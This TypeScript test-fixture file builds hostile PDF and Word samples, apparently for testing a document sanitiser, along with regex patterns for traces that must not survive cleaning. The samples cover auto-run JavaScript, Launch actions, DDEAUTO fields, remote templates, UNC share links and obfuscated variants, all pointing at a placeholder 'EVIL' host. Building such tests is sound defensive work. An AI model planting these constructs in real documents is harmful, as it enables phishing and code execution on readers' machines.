import { deflateSync } from 'node:zlib'
import { docx, pdf, relationsOf, typeOf, withoutPlaces } from './testing-documents.ts'

const stream = (dictionary: string, data: string | Buffer) =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`),
    Buffer.from(data),
    Buffer.from('\nendstream'),
  ])
const link = (action: string, more = '') =>
  pdf({
    page: `/Annots [10 0 R] ${more}`,
    objects: { 10: `<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A ${action} >>` },
  })
const annotation = (entries: string, objects: Record<number, string | Buffer> = {}) =>
  pdf({
    page: '/Annots [10 0 R]',
    objects: { 10: `<< /Type /Annot /Rect [0 0 99 99] ${entries} >>`, ...objects },
  })
/** Objects in a stream that many readers read. */
const packed = (number: number, object: string) => {
  const index = `${number} 0 `
  return stream(`/Type /ObjStm /N 1 /First ${index.length} /Filter /FlateDecode`, deflateSync(index + object))
}
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

/** PDFs that do something when they are opened, shown, clicked or saved. Each says `EVIL` or what `traces` looks for. */
export const hostilePdfs: Record<string, Buffer> = {
  'a script when it is opened': pdf({ catalogue: `/OpenAction ${script}` }),
  'a script of a page': pdf({ page: `/AA << /O ${script} >>` }),
  'a script under another name': pdf({ catalogue: '/OpenAction << /S /J#61vaScr#69pt /JS (EVIL) >>' }),
  'a script of the whole document': pdf({
    catalogue: `/Names << /JavaScript << /Names [(EVIL) ${script}] >> >>`,
  }),
  'a program': link('<< /S /Launch /F (EVIL.exe) /Win << /F (cmd) >> >>'),
  'a file of another server': link('<< /S /GoToR /F (\\\\\\\\EVIL\\\\share) /D [0 /Fit] >>'),
  'a file within': link('<< /S /GoToE /F (EVIL) /T << /R /C /N (x) >> >>'),
  'a form that is sent': link('<< /S /SubmitForm /F (http://EVIL) >>'),
  'data that are read': link('<< /S /ImportData /F (EVIL) >>'),
  'an address that opens by itself': pdf({ catalogue: '/OpenAction << /S /URI /URI (http://EVIL) >>' }),
  'an address of a file': link('<< /S /URI /URI (file:////EVIL/share) >>'),
  'a script as an address': link('<< /S /URI /URI (javascript:EVIL) >>'),
  'an action behind an action': link(`<< /S /URI /URI (https://example.com) /Next ${script} >>`),
  'a rendition': link('<< /S /Rendition /JS (EVIL) /OP 0 >>'),
  'a movie': annotation('/Subtype /Movie /Movie << /F (EVIL) >> /A true'),
  'a sound': annotation('/Subtype /Sound /Sound 11 0 R', { 11: stream('/R 8000', 'EVIL') }),
  'a screen': annotation('/Subtype /Screen /AA << /PO << /S /Rendition /JS (EVIL) >> >>'),
  'rich media': annotation('/Subtype /RichMedia /RichMediaContent << /Assets << >> /EVIL 1 >>'),
  'three dimensions': annotation('/Subtype /3D /3DD 11 0 R', {
    11: stream('/Type /3D /OnInstantiate 12 0 R', 'EVIL'),
  }),
  'an attached file': annotation('/Subtype /FileAttachment /FS << /EF << /F 11 0 R >> /F (x.exe) >>', {
    11: stream('/Type /EmbeddedFile', 'EVIL'),
  }),
  'embedded files': pdf({
    catalogue: '/Names << /EmbeddedFiles << /Names [(x) 10 0 R] >> >> /AF [10 0 R]',
    objects: {
      10: '<< /Type /Filespec /F (EVIL.exe) /EF << /F 11 0 R >> >>',
      11: stream('/Type /EmbeddedFile', 'EVIL'),
    },
  }),
  'a form of XML': pdf({
    catalogue: '/AcroForm << /Fields [] /XFA 10 0 R >>',
    objects: { 10: stream('', '<xdp>EVIL</xdp>') },
  }),
  'a script of a field': pdf({
    catalogue: '/AcroForm << /Fields [10 0 R] >>',
    page: '/Annots [10 0 R]',
    objects: {
      10: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K ${script} >> >>`,
    },
  }),
  'data in another file': pdf({
    page: '/Resources << /XObject << /X 10 0 R >> >>',
    objects: { 10: stream('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /F (\\\\\\\\EVIL\\\\x)', '') },
  }),
  'a drawing of another file': pdf({
    page: '/Resources << /XObject << /X 10 0 R >> >>',
    objects: { 10: stream('/Subtype /Form /BBox [0 0 9 9] /Ref << /F (EVIL) /Page 0 >>', '') },
  }),
  'a script in a packed object': withoutPlaces(
    pdf({ catalogue: '/OpenAction 20 0 R', objects: { 11: packed(20, script) } }),
  ),
  'a bookmark that starts a program': pdf({
    catalogue: '/Outlines << /First 10 0 R /Last 10 0 R >>',
    objects: { 10: '<< /Title (x) /A << /S /Launch /F (EVIL) >> >>' },
  }),
  'a word that ends objects in a text': pdf({
    catalogue: `/Lang <656e646f626a> /X (endobj) /Y <endobj> /OpenAction ${script}`,
  }),
  'a word that ends files in a text': pdf({ catalogue: `/X <startxref> /OpenAction ${script}` }),
  'a word that begins data in a text': pdf({ catalogue: `/X <stream> /OpenAction ${script}` }),
}

/** What must not be left of any of them, in whatever is read of the file with all its streams unpacked. */
export const pdfTraces =
  /EVIL|JavaScript|\/JS\b|Launch|GoTo[RE]|SubmitForm|ImportData|OpenAction|\/AA\b|Rendition|RichMedia|EmbeddedFile|XFA|Movie|Sound|\/Next\b|app\.alert/

const external = (kind: string) => ({
  'word/_rels/document.xml.rels': relationsOf(['rId9', kind, 'file:////EVIL/share', true]),
})
const settings = (kind: string, inside: string, target = 'http://EVIL/x.dotm') => ({
  overrides: typeOf('/word/settings.xml', 'settings'),
  parts: {
    'word/_rels/document.xml.rels': relationsOf(['rId8', 'settings', 'settings.xml']),
    'word/settings.xml': Buffer.from(
      `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">${inside}</w:settings>`,
    ),
    'word/_rels/settings.xml.rels': relationsOf(['rId9', kind, target, true]),
  },
})
const embedded = (kind: string, name: string, type: string, body: string) =>
  docx({
    body,
    overrides: typeOf(`/word/${name}`, type),
    parts: {
      'word/_rels/document.xml.rels': relationsOf(['rId9', kind, name]),
      [`word/${name}`]: Buffer.from('EVIL'),
    },
  })
const field = (...instructions: string[]) =>
  docx({
    body: `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instructions
      .map((text) => `<w:r><w:instrText>${text}</w:instrText></w:r>`)
      .join(
        '',
      )}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>100</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  })

/** Word documents that run, fetch or embed something. */
export const hostileDocuments: Record<string, Buffer> = {
  macros: embedded(
    'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
    'vbaProject.bin',
    'application/vnd.ms-office.vbaProject',
    '',
  ),
  'an object of another program': embedded(
    'oleObject',
    'embeddings/oleObject1.bin',
    'application/vnd.openxmlformats-officedocument.oleObject',
    '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="EVIL" r:id="rId9"/></w:object></w:r></w:p>',
  ),
  'an object elsewhere': docx({
    body: '<w:p><w:r><w:object><o:OLEObject Type="Link" UpdateMode="Always" r:id="rId9"/></w:object></w:r></w:p>',
    parts: external('oleObject'),
  }),
  'a sheet with macros': embedded(
    'package',
    'embeddings/EVIL.xlsm',
    'application/vnd.ms-excel.sheet.macroEnabled.12',
    '<w:p/>',
  ),
  'a control': embedded(
    'control',
    'activeX/activeX1.xml',
    'application/vnd.ms-office.activeX+xml',
    '<w:control r:id="rId9"/>',
  ),
  'another page within': embedded('aFChunk', 'EVIL.html', 'text/html', '<w:altChunk r:id="rId9"/>'),
  'a document elsewhere': docx({ body: '<w:subDoc r:id="rId9"/>', parts: external('subDocument') }),
  'a frame': docx(
    settings('frame', '<w:frameset><w:frame><w:sourceFileName r:id="rId9"/></w:frame></w:frameset>'),
  ),
  'a template elsewhere': docx(settings('attachedTemplate', '<w:attachedTemplate r:id="rId9"/>')),
  'a template on a disk': docx(
    settings('attachedTemplate', '<w:attachedTemplate r:id="rId9"/>', 'file:///C:\\Templates\\EVIL.dotm'),
  ),
  'letters from a database': docx(
    settings(
      'mailMergeSource',
      '<w:mailMerge><w:connectString w:val="EVIL"/><w:dataSource r:id="rId9"/></w:mailMerge>',
    ),
  ),
  'a picture elsewhere': docx({
    body: '<w:p><w:r><w:drawing><a:blip r:link="rId9"/></w:drawing></w:r></w:p>',
    parts: external('image'),
  }),
  'an old picture elsewhere': docx({
    body: '<w:p><w:r><w:pict><v:shape href="file:////EVIL/x"><v:imagedata src="file:////EVIL/x" o:href="http://EVIL"/></v:shape></w:pict></w:r></w:p>',
  }),
  'a link to a share': docx({
    body: '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>100</w:t></w:r></w:hyperlink></w:p>',
    parts: external('hyperlink'),
  }),
  'an element under another name': docx({
    body: '<x:altChunk xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:y="http://schemas.openxmlformats.org/officeDocument/2006/relationships" y:id="rId9"/>',
    parts: external('aFChunk'),
  }),
  DDE: field('DDEAUTO c:\\\\windows\\\\EVIL.exe'),
  'DDE in pieces': field('D', 'DEA', 'UTO c:\\\\EVIL.exe'),
  'DDE in small letters': field(' ddeauto EVIL'),
  'DDE by a field of its own': docx({
    body: '<w:p><w:fldSimple w:instr="DDE EVIL"><w:r><w:t>100</w:t></w:r></w:fldSimple></w:p>',
  }),
  'DDE put together by another field': docx({
    body: '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69 EVIL</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> EVIL.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>100</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
  }),
  'DDE that does not end': docx({
    body: '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE EVIL</w:instrText></w:r></w:p>',
  }),
  'a picture by a field': field('INCLUDEPICTURE "http://EVIL/x.png" \\d'),
  'a text by a field': field('INCLUDETEXT "\\\\\\\\EVIL\\\\x.docx"'),
  'a link by a field': field('HYPERLINK "file:////EVIL/share"'),
  'a link with a second address': field('HYPERLINK "https://example.com" "\\\\\\\\EVIL\\\\share"'),
}

export const docxTraces =
  /EVIL|vbaProject|oleObject|OLEObject|altChunk|aFChunk|subDoc|frameset|sourceFileName|attachedTemplate|mailMerge|embeddings|activeX|w:control|DDE|INCLUDE|QUOTE|file:/i
